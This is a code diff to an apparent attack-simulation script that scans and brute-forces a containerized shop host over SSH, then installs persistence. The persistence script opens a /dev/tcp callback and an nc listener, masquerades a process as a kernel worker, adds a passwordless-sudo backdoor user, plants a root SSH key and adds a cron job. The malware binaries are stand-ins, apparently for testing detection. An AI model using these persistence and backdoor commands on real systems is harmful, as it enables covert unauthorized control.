@@ -10,6 +10,9 @@ from shop import ATTACKER, OUTSIDE_PORT, address
 PASSWORD = "summer"
 WRONG = 6
 UNKNOWN_USERS = ("admin", "oracle")
+HIDDEN = "/var/lib/.cache/agent"
+#: The attacker's own key.
+KEY = "/root/key"
 
 #: As anna, who may become root with the password that was guessed. Everything that is started stays when the connection ends.
 AT_HOME = f"""
@@ -21,15 +24,15 @@ cp /usr/bin/sleep /tmp/miner
 start /tmp/miner 7771
 cp /usr/bin/sleep /tmp/gone
 start /tmp/gone 7772
-sleep 0.2
+until pgrep --full '^/tmp/gone' > /dev/null; do sleep 0.1; done
 rm /tmp/gone
 start bash -c 'exec -a "[kworker/0:1]" /usr/bin/sleep 7773'
 start bash -c 'exec 3<>/dev/tcp/ATTACKER/{OUTSIDE_PORT}; read -r answer <&3'
 
 become sh -ec '
-mkdir -p /var/lib/.cache
-cp /usr/bin/sleep /var/lib/.cache/agent
-setsid /var/lib/.cache/agent 7774 > /dev/null 2>&1 < /dev/null &
+mkdir /var/lib/.cache
+cp /usr/bin/sleep {HIDDEN}
+setsid {HIDDEN} 7774 > /dev/null 2>&1 < /dev/null &
 setsid nc -lk 4444 > /dev/null 2>&1 < /dev/null &
 echo "// fetch the cards" >> /opt/shop/server.js
 useradd --create-home --shell /bin/bash support
@@ -37,13 +40,18 @@ echo "support ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/support
 chmod 440 /etc/sudoers.d/support
 mkdir -p -m 700 /root/.ssh /etc/cron.d
 echo "KEY" >> /root/.ssh/authorized_keys
-echo "* * * * * root /var/lib/.cache/agent" > /etc/cron.d/update
+echo "* * * * * root {HIDDEN}" > /etc/cron.d/update
 '
 """
 
 
+def make_key() -> None:
+    """Let the attacker have a key to leave behind."""
+    ATTACKER.sh(f"test -f {KEY} || ssh-keygen -q -t ed25519 -N '' -f {KEY}")
+
+
 def look_around(shop: Container) -> None:
-    """Scan for ports and for pages that might be there."""
+    """Scan for ports, and for pages that might be there."""
     ATTACKER.sh(f"nmap --unprivileged -Pn -n -T4 -p 20-100,3000,8000 --script http-enum {address(shop)}")
 
 
@@ -66,8 +74,7 @@ def guess(shop: Container) -> None:
 
 def make_itself_at_home(shop: Container) -> None:
     """Log in with the password that was guessed, and leave things behind."""
-    key = ATTACKER.sh("test -f /root/key || ssh-keygen -q -t ed25519 -N '' -f /root/key; cat /root/key.pub").strip()
-    script = AT_HOME.replace("ATTACKER", address(ATTACKER)).replace("KEY", key)
+    script = AT_HOME.replace("ATTACKER", address(ATTACKER)).replace("KEY", ATTACKER.sh(f"cat {KEY}.pub").strip())
     ATTACKER.sh(f"{ssh(shop, 'anna', PASSWORD)} {shlex.quote(script)} < /dev/null")
 
 
